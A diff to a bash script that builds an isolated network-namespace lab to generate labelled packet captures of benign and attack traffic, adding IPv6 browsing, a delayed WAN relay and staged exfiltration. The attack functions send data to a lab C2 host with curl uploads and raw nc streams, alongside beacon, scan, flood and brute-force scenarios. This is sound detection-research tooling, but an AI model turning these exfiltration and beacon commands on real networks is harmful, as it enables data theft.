@@ -18,6 +18,9 @@ DNS=$NET.200     # dnsmasq
 C2=$NET.201      # external host / command-and-control
 WEB=$NET.202     # external web site (HTTP and HTTPS) the laptop browses
 LAPTOP=$NET.20   # a user's laptop behind the gateway: web browsing and video
+# The laptop and the web site also speak IPv6, as most home networks and big sites do.
+LAPTOP6=fd00:99::14
+WEB6=fd00:99::ca
 ATTACKER=$NET.66
 
 usage() {
@@ -137,33 +140,35 @@ role_admin() { # occasional admin work on the camera: ssh command, anonymous ftp
 }
 
 role_browse() { # laptop: web pages with their assets over parallel connections, feeds, video
-    local work=$1 pages scheme page p n i url stream
+    local work=$1 pages scheme page p n i url stream site record
     local names=(www.news.example cdn.news.example api.news.example video.news.example)
     pages=$(find "$work/site" -maxdepth 1 -name 'page*.html' | wc -l)
     while :; do
         if ((RANDOM % 10 < 7)); then scheme=https; else scheme=http; fi
-        timeout 3 dig @"$DNS" +time=1 +tries=1 +short "${names[RANDOM % ${#names[@]}]}" >/dev/null 2>&1
+        # Half of the visits go over IPv6, as a dual-stack browser's would.
+        if ((RANDOM % 2)); then site="[$WEB6]" record=AAAA; else site=$WEB record=A; fi
+        timeout 3 dig @"$DNS" +time=1 +tries=1 +short "${names[RANDOM % ${#names[@]}]}" "$record" >/dev/null 2>&1
         page=$((RANDOM % pages))
-        timeout 10 curl -sk -o /dev/null -m 8 "$scheme://$WEB/page$page.html"
+        timeout 10 curl -gsk -o /dev/null -m 8 "$scheme://$site/page$page.html"
         # The page's assets, several at a time on reused connections, as a browser does.
         local args=()
-        while read -r url; do args+=(-o /dev/null "$scheme://$WEB/$url"); done <"$work/site/page$page.txt"
+        while read -r url; do args+=(-o /dev/null "$scheme://$site/$url"); done <"$work/site/page$page.txt"
         p=$((2 + RANDOM % 5))
-        timeout 20 curl -sk -m 15 --parallel --parallel-max "$p" "${args[@]}"
+        timeout 20 curl -gsk -m 15 --parallel --parallel-max "$p" "${args[@]}"
         case $((RANDOM % 5)) in
             0) # a video: segments fetched at the player's pace
                 n=$((2 + RANDOM % 4))
                 for ((i = 0; i < n; i++)); do
                     stream=$((RANDOM % 4))
-                    timeout 15 curl -sk -o /dev/null -m 12 --limit-rate "$((300 + RANDOM % 1700))K" \
-                        "$scheme://$WEB/video/seg$stream.bin"
+                    timeout 15 curl -gsk -o /dev/null -m 12 --limit-rate "$((300 + RANDOM % 1700))K" \
+                        "$scheme://$site/video/seg$stream.bin"
                     rsleep 200 2000
                 done
                 ;;
             1) # the page polls its feed for a while
                 n=$((2 + RANDOM % 5))
                 for ((i = 0; i < n; i++)); do
-                    timeout 5 curl -sk -o /dev/null -m 4 "$scheme://$WEB/api/feed.json?since=$RANDOM"
+                    timeout 5 curl -gsk -o /dev/null -m 4 "$scheme://$site/api/feed.json?since=$RANDOM"
                     rsleep 800 3000
                 done
                 ;;
@@ -253,16 +258,28 @@ make_topology() {
     ip -n "$GW" link add br0 type bridge
     ip netns exec "$GW" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
     ip -n "$GW" link set br0 up
+    # The internet side: dns, c2 and web sit on bridge wan0, which reaches br0 only through
+    # two TAP devices relayed by wan.py with a round-trip delay (see start_wan).
+    ip -n "$GW" link add wan0 type bridge
+    ip -n "$GW" link set wan0 up
+    ip -n "$GW" tuntap add wanl mode tap || die "cannot create TAP devices (is /dev/net/tun there?)"
+    ip -n "$GW" tuntap add wanw mode tap || die "cannot create TAP devices"
+    ip -n "$GW" link set wanl master br0 up
+    ip -n "$GW" link set wanw master wan0 up
     for h in camera sensor broker dns c2 attacker laptop web; do
         addr=${HOSTNS[$h]}
         i=$((i + 1))
         ip netns add "$(ns "$h")" || die "cannot create namespace $(ns "$h")"
-        in_ns "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
+        [[ $h == laptop || $h == web ]] ||
+            in_ns "$h" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
         # Targets answer closed UDP ports like small devices do, without Linux's 1/s limit.
         in_ns "$h" sysctl -qw net.ipv4.icmp_ratelimit=50
         ip -n "$GW" link add "p$i-$h" type veth peer name eth0 netns "$(ns "$h")" ||
             die "cannot create veth for $h"
-        ip -n "$GW" link set "p$i-$h" master br0 up
+        case $h in
+            dns | c2 | web) ip -n "$GW" link set "p$i-$h" master wan0 up ;;
+            *) ip -n "$GW" link set "p$i-$h" master br0 up ;;
+        esac
         # No segmentation offload: the capture must hold wire-sized packets, as a real
         # gateway would see, not 64 KB super-packets that only exist inside the kernel.
         if command -v ethtool >/dev/null 2>&1; then
@@ -273,9 +290,10 @@ make_topology() {
         ip -n "$(ns "$h")" addr add "$addr/24" dev eth0
         ip -n "$(ns "$h")" link set eth0 address "02:00:0a:63:00:$(printf '%02x' "${addr##*.}")"
         ip -n "$(ns "$h")" link set eth0 up
+        [[ $h == laptop ]] && ip -n "$(ns "$h")" addr add "$LAPTOP6/64" dev eth0 nodad
+        [[ $h == web ]] && ip -n "$(ns "$h")" addr add "$WEB6/64" dev eth0 nodad
         if [[ $h == web ]]; then
-            # The web site is on the internet: a shaped link, 30 Mbit/s down and 8 up (this
-            # kernel may lack netem, so no added delay; the site adds its response time).
+            # The web site's own link: 30 Mbit/s down and 8 up.
             in_ns web tc qdisc add dev eth0 root tbf rate 30mbit burst 32kb latency 200ms 2>/dev/null ||
                 log "warning: no tbf qdisc: the web site's link is not shaped"
             ip netns exec "$GW" tc qdisc add dev "p$i-$h" root tbf rate 8mbit burst 16kb latency 200ms 2>/dev/null
@@ -287,6 +305,26 @@ make_topology() {
         sleep 0.3
     done
     die "the lab network does not forward packets"
+}
+
+# Relays frames between the LAN and the internet side with a seeded one-way delay of
+# 8-35 ms (round trips of 16-70 ms, the range reddit.pcap shows) and up to 3 ms of jitter.
+WAN_PID=
+start_wan() { # seed
+    local one_way
+    one_way=$((8 + $1 % 28))
+    ip netns exec "$GW" /usr/bin/python3 "$(dirname "$SELF")/wan.py" wanl wanw "$one_way" 3 "$1" \
+        >>"$WORK/wan.log" 2>&1 &
+    WAN_PID=$!
+    for _ in $(seq 1 30); do
+        in_ns camera ping -c1 -W1 "$C2" >/dev/null 2>&1 && return 0
+        sleep 0.2
+    done
+    die "the internet side of the lab does not answer (see $WORK/wan.log)"
+}
+stop_wan() {
+    [[ -n $WAN_PID ]] && kill "$WAN_PID" 2>/dev/null && wait "$WAN_PID" 2>/dev/null
+    WAN_PID=
 }
 
 write_files() {
@@ -364,7 +402,7 @@ EOF
     openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=www.news.example \
         -keyout "$w/web.key" -out "$w/web.crt" >/dev/null 2>&1
     cat >"$w/web.py" <<'EOF'
-import functools, random, ssl, sys, threading, time
+import functools, random, socket, ssl, sys, threading, time
 from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
 
 class Site(SimpleHTTPRequestHandler):
@@ -378,10 +416,17 @@ class Site(SimpleHTTPRequestHandler):
         time.sleep(random.uniform(0.02, 0.18))
         return super().send_head()
 
-addr, root, cert, key = sys.argv[1:5]
+class DualStack(ThreadingHTTPServer):
+    address_family = socket.AF_INET6
+
+    def server_bind(self):
+        self.socket.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 0)
+        super().server_bind()
+
+root, cert, key = sys.argv[1:4]
 handler = functools.partial(Site, directory=root)
-plain = ThreadingHTTPServer((addr, 80), handler)
-tls = ThreadingHTTPServer((addr, 443), handler)
+plain = DualStack(("::", 80), handler)
+tls = DualStack(("::", 443), handler)
 context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
 context.load_cert_chain(cert, key)
 tls.socket = context.wrap_socket(tls.socket, server_side=True)
@@ -459,14 +504,15 @@ start_services() {
         --listen-address="$DNS" --pid-file="$w/dnsmasq.pid" --local=/lab/ --local=/example/ \
         --address=/broker.lab/"$BROKER" --address=/cam.lab/"$CAM" --address=/sensor.lab/"$SENSOR" \
         --address=/time.vendor.lab/"$DNS" --address=/fw.vendor.lab/"$DNS" --address=/api.vendor.lab/"$DNS" \
-        --address=/update.cdn-sync.example/"$C2" --address=/news.example/"$WEB"
+        --address=/update.cdn-sync.example/"$C2" --address=/news.example/"$WEB" \
+        --address=/news.example/"$WEB6"
     service camera /usr/bin/python3 -m http.server 80 --bind "$CAM" --directory "$w/www"
     service camera /usr/sbin/sshd -D -e -f "$w/sshd_config"
     service camera vsftpd "$w/vsftpd.conf"
     service sensor coap-server-notls -A "$SENSOR" -p 5683
     service c2 /usr/bin/python3 "$w/c2.py" "$C2" 80 443 8080
     service c2 nc -lk "$C2" 4444
-    service web /usr/bin/python3 "$w/web.py" "$WEB" "$w/site" "$w/web.crt" "$w/web.key"
+    service web /usr/bin/python3 "$w/web.py" "$w/site" "$w/web.crt" "$w/web.key"
     wait_port broker tcp "$BROKER" 1883
     wait_port dns udp "$DNS" 53
     wait_port camera tcp "$CAM" 80
@@ -475,7 +521,7 @@ start_services() {
     wait_port sensor udp "$SENSOR" 5683
     wait_port c2 tcp "$C2" 8080
     wait_port c2 tcp "$C2" 4444
-    wait_port web tcp "$WEB" 443
+    wait_port web tcp '\*' 443
 }
 
 # ---------------------------------------------------------------------------------------
@@ -653,26 +699,31 @@ wait_batch() {
 attack_beacon() {
     FAMILY=botnet_c2 ATTACKERS=$C2
     local dur period port
-    scale dur 8 12 20
+    # Long enough for tens of check-ins: a beacon is known by its repetition.
+    scale dur 8 30 60
     scale period 1500 1000 4000
     pick port 80 443 8080
     in_ns camera timeout "$dur" bash "$SELF" __role beacon "$WORK" "$RANDOM" "$port" \
         "$period" $((period / 4)) >>"$WORK/attack.log" 2>&1
 }
 
-attack_exfil() {
+attack_exfil() { # staged: a few uploads of 3-15 MB each, with pauses between them
     FAMILY=exfiltration ATTACKERS=$C2
-    local mb rate port
-    scale mb 12 10 40
-    if ((RANDOM % 2)); then # HTTP upload, rate-limited like a modest uplink
-        pick rate 2M 4M 8M 20M
-        pick port 80 443 8080
-        in_ns camera timeout 25 curl -s -o /dev/null -m 24 --limit-rate "$rate" \
-            -H 'Content-Type: application/octet-stream' --data-binary @- \
-            "http://$C2:$port/upload" < <(head -c "${mb}M" /dev/urandom) >>"$WORK/attack.log" 2>&1
-    else # raw TCP stream
-        head -c "${mb}M" /dev/urandom | in_ns camera timeout 25 nc -N -w 5 "$C2" 4444 >>"$WORK/attack.log" 2>&1
-    fi
+    local parts part mb rate port
+    scale parts 1 2 4
+    for ((part = 0; part < parts; part++)); do
+        scale mb 12 3 15
+        if ((RANDOM % 2)); then # HTTP upload, rate-limited like a modest uplink
+            pick rate 2M 4M 8M 20M
+            pick port 80 443 8080
+            in_ns camera timeout 25 curl -s -o /dev/null -m 24 --limit-rate "$rate" \
+                -H 'Content-Type: application/octet-stream' --data-binary @- \
+                "http://$C2:$port/upload" < <(head -c "${mb}M" /dev/urandom) >>"$WORK/attack.log" 2>&1
+        else # raw TCP stream
+            head -c "${mb}M" /dev/urandom | in_ns camera timeout 25 nc -N -w 5 "$C2" 4444 >>"$WORK/attack.log" 2>&1
+        fi
+        ((part + 1 < parts)) && rsleep 1000 5000
+    done
 }
 
 SCENARIOS=(benign scan_syn scan_udp scan_connect dos_syn_flood dos_udp_flood brute_ssh brute_ftp
@@ -738,6 +789,7 @@ run_scenario() { # seed index name
     scale min_len 9 12 18
     t0=$EPOCHSECONDS
     rm -f "$pcap"
+    start_wan $((seed * 1000 + idx * 17))
     ip netns exec "$GW" timeout -s INT 600 tcpdump -i br0 -n -Z root -s 256 -U -w "$pcap" >"$WORK/tcpdump.log" 2>&1 &
     CAP_PID=$!
     for _ in $(seq 1 50); do grep -q 'listening on' "$WORK/tcpdump.log" && break; sleep 0.1; done
@@ -754,6 +806,7 @@ run_scenario() { # seed index name
     kill -INT "$CAP_PID" 2>/dev/null
     wait "$CAP_PID" 2>/dev/null
     CAP_PID=
+    stop_wan
     packets=$(tcpdump -r "$pcap" -n 2>/dev/null | wc -l)
     local w_start=$t_start w_end
     w_end=$(awk -v e="$t_end" 'BEGIN { printf "%.3f", e + 1.0 }')
